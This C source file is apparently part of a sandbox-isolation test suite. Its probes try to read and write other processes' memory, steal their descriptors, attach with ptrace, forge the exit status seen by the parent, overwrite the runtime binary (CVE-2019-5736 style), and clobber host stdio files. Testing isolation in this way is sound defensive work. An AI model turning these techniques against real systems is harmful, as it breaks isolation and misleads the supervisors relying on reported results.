/* SPDX-License-Identifier: Apache-2.0 */
/* Group C, first part: other processes (process 1 above all), descriptors, exit status. */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/kcmp.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

/* ---- Looking into a process ---- */

/* Something of the caller (a word in its environment or arguments) shows in /proc/PID/NAME. */
static int proc_text(char **arg)
{
    static char buf[1 << 20];
    ssize_t n = slurp(text("/proc/%s/%s", arg[0], arg[1]), buf, sizeof buf);

    if (n < 0)
        return held("%s: %s (errno %d)", arg[1], strerror(errno), errno);
    return memmem(buf, (size_t)n, arg[2], strlen(arg[2])) ? escaped("%s shows it", arg[1])
                                                          : held("%s does not show it", arg[1]);
}

/* Whether any byte of it can be read at all. */
static int proc_bytes(char **arg)
{
    char buf[64];
    ssize_t n = slurp(text("/proc/%s/%s", arg[0], arg[1]), buf, sizeof buf);

    return verdict(n > 0, text("read /proc/%s/%s", arg[0], arg[1]));
}

static int open_memory(char **arg)
{
    return verdict(open(text("/proc/%s/mem", arg[0]), O_RDWR | O_CLOEXEC) >= 0,
                   "opened its memory");
}

static int follow_links(char **arg)
{
    static const char *const links[] = {"root", "cwd", "exe", "fd/0", "fd/1", "fd/3", "ns/user"};
    char target[256];

    for (size_t i = 0; i < sizeof links / sizeof *links; i++)
        if (readlink(text("/proc/%s/%s", arg[0], links[i]), target, sizeof target) > 0)
            return escaped("followed %s", links[i]);
    return held("%s (errno %d)", strerror(errno), errno);
}

static int attach(char **arg)
{
    pid_t pid = (pid_t)number(arg[0]);
    bool ok = ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0;

    if (ok)
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return verdict(ok, "traced it");
}

/* A bad address is found only after the right to look has been checked. */
static int read_memory(char **arg)
{
    static char target[16];
    char buf[16];
    struct iovec local = {buf, sizeof buf};
    struct iovec remote = {target, sizeof target};
    ssize_t n = process_vm_readv((pid_t)number(arg[0]), &local, 1, &remote, 1, 0);

    return verdict(n >= 0 || errno == EFAULT, "process_vm_readv");
}

static int write_memory(char **arg)
{
    static char target[16];
    char buf[16] = "";
    struct iovec local = {buf, sizeof buf};
    struct iovec remote = {target, sizeof target};
    ssize_t n = process_vm_writev((pid_t)number(arg[0]), &local, 1, &remote, 1, 0);

    return verdict(n >= 0 || errno == EFAULT, "process_vm_writev");
}

static int steal_fd(char **arg)
{
    int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)number(arg[0]), 0);

    if (pidfd < 0)
        return held("pidfd_open: %s (errno %d)", strerror(errno), errno);
    for (int fd = 0; fd < 16; fd++)
        if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0)
            return escaped("took its descriptor %d", fd);
    return held("pidfd_getfd: %s (errno %d)", strerror(errno), errno);
}

static int compare(char **arg)
{
    long r = syscall(SYS_kcmp, getpid(), (pid_t)number(arg[0]), KCMP_VM, 0, 0);

    return verdict(r >= 0, "compared its memory with ours");
}

/*
 * Whoever may set its limits may have the kernel end it: by the one on CPU time. This sets what is set.
 */
static int set_limits(char **arg)
{
    pid_t pid = (pid_t)number(arg[0]);
    struct rlimit limit;

    need(prlimit(pid, RLIMIT_CPU, NULL, &limit) == 0, "look at its limits");
    return verdict(prlimit(pid, RLIMIT_CPU, &limit, NULL) == 0, "set its limit of CPU time");
}

/* Whoever may change how it is scheduled may have it wait for all others. This sets what is set. */
static int set_schedule(char **arg)
{
    pid_t pid = (pid_t)number(arg[0]);
    struct sched_param none = {0};
    cpu_set_t processors;

    errno = EBUSY;
    need(sched_getscheduler(pid) == SCHED_OTHER, "it is not scheduled as usual");
    need(sched_getaffinity(pid, sizeof processors, &processors) == 0, "look at its processors");
    if (sched_setscheduler(pid, SCHED_OTHER, &none) == 0 || sched_setparam(pid, &none) == 0)
        return escaped("set its policy");
    if (sched_setaffinity(pid, sizeof processors, &processors) == 0)
        return escaped("set its processors");
    if (setpriority(PRIO_PGRP, (id_t)getpgid(pid), getpriority(PRIO_PROCESS, (id_t)pid)) == 0)
        return escaped("set the priority of its group");
    if (syscall(SYS_ioprio_set, 1, pid, syscall(SYS_ioprio_get, 1, pid)) == 0)
        return escaped("set its priority for the disk");
    return verdict(setpriority(PRIO_PROCESS, (id_t)pid, getpriority(PRIO_PROCESS, (id_t)pid)) == 0,
                   "set its priority");
}

/* What a process is, and what it starts will be: harder to live with. */
static int burden(char **arg)
{
    pid_t pid = (pid_t)number(arg[0]);
    const struct rlimit limit = {1000, 2000};
    struct sched_param none = {0};

    bool limited = prlimit(pid, RLIMIT_FSIZE, &limit, NULL) == 0;
    bool slowed = setpriority(PRIO_PROCESS, (id_t)pid, 7) == 0;
    return verdict(limited || slowed || sched_setscheduler(pid, SCHED_IDLE, &none) == 0,
                   "burdened it");
}

/* Say what burden() changes. */
static int burdens(char **arg)
{
    pid_t pid = (pid_t)number(arg[0]);
    struct rlimit limit;

    need(prlimit(pid, RLIMIT_FSIZE, NULL, &limit) == 0, "look at its limits");
    return done("%ju %ju, priority %d, policy %d", (uintmax_t)limit.rlim_cur,
                (uintmax_t)limit.rlim_max, getpriority(PRIO_PROCESS, (id_t)pid),
                sched_getscheduler(pid));
}

/* ---- Forging the answer ---- */

static void write_everything(int fd)
{
    uint64_t one = 1;

    fcntl(fd, F_SETFL, O_NONBLOCK);
    if (write(fd, &one, sizeof one) < 0)
        return;
}

/* Steal what our parent reports by, say "exited with 0" there, and exit with 3. */
static int forge_exit(char **arg)
{
    int pidfd = (int)syscall(SYS_pidfd_open, getppid(), 0);

    (void)arg;
    for (int fd = 3; fd < 64; fd++) {
        write_everything(fd == pidfd ? -1 : fd);
        if (pidfd >= 0)
            write_everything((int)syscall(SYS_pidfd_getfd, pidfd, fd, 0));
    }
    return 3;
}

/* A brother instead of a child: it ends first, with 0, and our parent may take that for us. */
static int sibling_exit(char **arg)
{
    long pid = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);

    (void)arg;
    if (pid == 0)
        _exit(0);
    /* Long enough for it to be noticed. */
    for (double end = now_ms() + 50; now_ms() < end;)
        ;
    return 3;
}

static int exit_with(char **arg)
{
    return (int)number(arg[0]);
}

static int die_by(char **arg)
{
    signal((int)number(arg[0]), SIG_DFL);
    raise((int)number(arg[0]));
    return 0;
}

/* ---- The program that runs us ---- */

/*
 * A running program cannot be written to; a descriptor of it, kept until it has ended, can be
 * opened again for writing (CVE-2019-5736). PID 0: there is only the path.
 */
static int overwrite_binary(char **arg)
{
    pid_t pid = (pid_t)number(arg[0]);
    int fd = open(text("/proc/%d/exe", (int)pid), O_RDONLY | O_CLOEXEC);

    if (fd < 0)
        fd = open(arg[1], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return held("%s (errno %d)", strerror(errno), errno);
    if (pid > 1)
        kill(pid, SIGKILL);
    /* The end of the process is not ours to wait for; try for as long as it can take. */
    for (double end = now_ms() + 300; now_ms() < end;) {
        int again = open(text("/proc/self/fd/%d", fd), O_WRONLY | O_APPEND | O_CLOEXEC);
        if (again >= 0)
            return verdict(write(again, "!", 1) == 1, "wrote to the program");
        if (errno != ETXTBSY)
            break;
        usleep(1000);
    }
    return held("%s (errno %d)", strerror(errno), errno);
}

/* ---- Descriptors ---- */

static int extra_fd(const char *dir, const char *name, void *arg)
{
    char target[256];
    ssize_t n = readlink(text("%s/%s", dir, name), target, sizeof target - 1);

    (void)arg;
    if (strtol(name, NULL, 10) <= 2 || n < 0)
        return 0;
    target[n] = '\0';
    /* The descriptor that lists the directory is our own. */
    if (strstr(target, "/fd") && strncmp(target, "/proc", 5) == 0)
        return 0;
    return escaped("has descriptor %s: %s", name, target);
}

static int extra_fds(char **arg)
{
    (void)arg;
    return each_name("/proc/self/fd", extra_fd, NULL) ? ESCAPED : held("0, 1 and 2 only");
}

/* Standard streams that are files of the host: truncate, go back, open again with more rights. */
static int smash_stdio(char **arg)
{
    (void)arg;
    for (int fd = 0; fd <= 2; fd++) {
        struct stat st;
        if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode))
            continue;
        if (ftruncate(fd, 0) == 0 || pwrite(fd, "pwned", 5, 0) == 5)
            return DONE;
        int again = open(text("/proc/self/fd/%d", fd), O_RDWR | O_CLOEXEC);
        if (again >= 0 && pwrite(again, "pwned", 5, 0) == 5)
            return DONE;
    }
    return HELD;
}

/* What a caller may pass on without meaning to: ignored and blocked signals. */
static int inherited_state(char **arg)
{
    static const char *const names[] = {"SigBlk:\t", "SigIgn:\t"};
    char buf[8192];

    (void)arg;
    need(slurp("/proc/self/status", buf, sizeof buf) > 0, "status");
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        const char *line = strstr(buf, names[i]);
        need(line != NULL, names[i]);
        if (strtoull(line + 8, NULL, 16) != 0)
            return escaped("inherited %.23s", line);
    }
    return held("no signal is ignored or blocked");
}

const struct verb process_verbs[] = {
    {"proc-text", "PID NAME WORD", 3, proc_text},
    {"proc-bytes", "PID NAME", 2, proc_bytes},
    {"open-memory", "PID", 1, open_memory},
    {"follow-links", "PID", 1, follow_links},
    {"attach", "PID", 1, attach},
    {"read-memory", "PID", 1, read_memory},
    {"write-memory", "PID", 1, write_memory},
    {"steal-fd", "PID", 1, steal_fd},
    {"compare", "PID", 1, compare},
    {"set-limits", "PID", 1, set_limits},
    {"set-schedule", "PID", 1, set_schedule},
    {"burden", "PID", 1, burden},
    {"burdens", "PID", 1, burdens},
    {"forge-exit", "", 0, forge_exit},
    {"sibling-exit", "", 0, sibling_exit},
    {"exit-with", "N", 1, exit_with},
    {"die-by", "SIGNAL", 1, die_by},
    {"overwrite-binary", "PID PATH", 2, overwrite_binary},
    {"extra-fds", "", 0, extra_fds},
    {"smash-stdio", "", 0, smash_stdio},
    {"inherited-state", "", 0, inherited_state},
    {0},
};
